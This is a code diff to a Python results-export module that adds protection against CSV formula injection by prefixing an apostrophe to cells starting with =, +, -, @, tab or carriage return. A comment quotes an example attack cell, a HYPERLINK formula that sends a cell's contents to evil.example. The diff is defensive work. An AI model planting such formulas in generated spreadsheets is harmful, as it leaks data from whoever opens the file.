@@ -156,17 +156,41 @@ CSV_COLUMNS = (
 )
 
 
+# A cell a spreadsheet would read as a formula (OWASP "CSV Injection"): a segment named
+# `=HYPERLINK("http://evil.example/?leak="&B2,"Open report")` would run when the file is opened.
+CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell_safe(value: object) -> str:
+    """The cell as text, with a leading `'` when it begins like a formula (SPEC 7). Negative
+    numbers too ("-0.012" becomes "'-0.012"): one rule for every cell, so no column can be
+    missed, and a spreadsheet shows the `'` as text or drops it."""
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(CSV_FORMULA_STARTS) else text
+
+
+class _SafeCsvWriter:
+    """csv.writer whose every cell goes through `csv_cell_safe`."""
+
+    def __init__(self, out: io.StringIO) -> None:
+        self._writer = csv.writer(out)
+
+    def writerow(self, row) -> None:
+        self._writer.writerow([csv_cell_safe(cell) for cell in row])
+
+
 def _number(value: float | None) -> str:
     return "" if value is None else f"{value:.6f}"
 
 
 def results_csv(results: Results) -> str:
     """Every arm, comparison and curve point as CSV: aggregates only, one row each. UTF-8 with a
-    byte-order mark, so spreadsheet programs read the labels' dashes and quotes right."""
+    byte-order mark, so spreadsheet programs read the labels' dashes and quotes right. Every
+    cell that begins with `=`, `+`, `-`, `@`, tab or carriage return carries a leading `'`."""
     out = io.StringIO()
     out.write("\ufeff")
     period = [results.since.isoformat(timespec="seconds"), results.until.isoformat(timespec="seconds")]
-    writer = csv.writer(out)
+    writer = _SafeCsvWriter(out)
     writer.writerow(CSV_COLUMNS)
 
     def counts_cells(counts: Rate) -> list[str]:
